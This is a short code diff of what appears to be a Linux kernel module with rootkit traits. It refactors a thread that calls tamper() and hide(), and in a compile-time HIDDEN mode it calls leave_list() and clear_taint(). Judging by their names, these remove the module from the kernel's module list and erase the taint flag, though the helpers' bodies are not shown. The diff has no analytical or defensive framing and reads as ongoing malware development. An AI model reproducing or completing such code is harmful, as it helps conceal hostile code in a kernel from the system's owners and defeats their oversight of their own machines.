@@ -7,23 +7,13 @@
 
 static struct task_struct *thread;
 
-static int run(void *unused)
-{
-	tamper();
-	while (!kthread_should_stop()) {
-		hide();
-		pause_briefly(100);
-	}
-	return 0;
-}
-
 int init_module(void)
 {
 #ifdef HIDDEN
 	leave_list();
 	clear_taint();
 #endif
-	thread = start_thread(run);
+	thread = start_thread(tamper_and_hide);
 	return 0;
 }
 
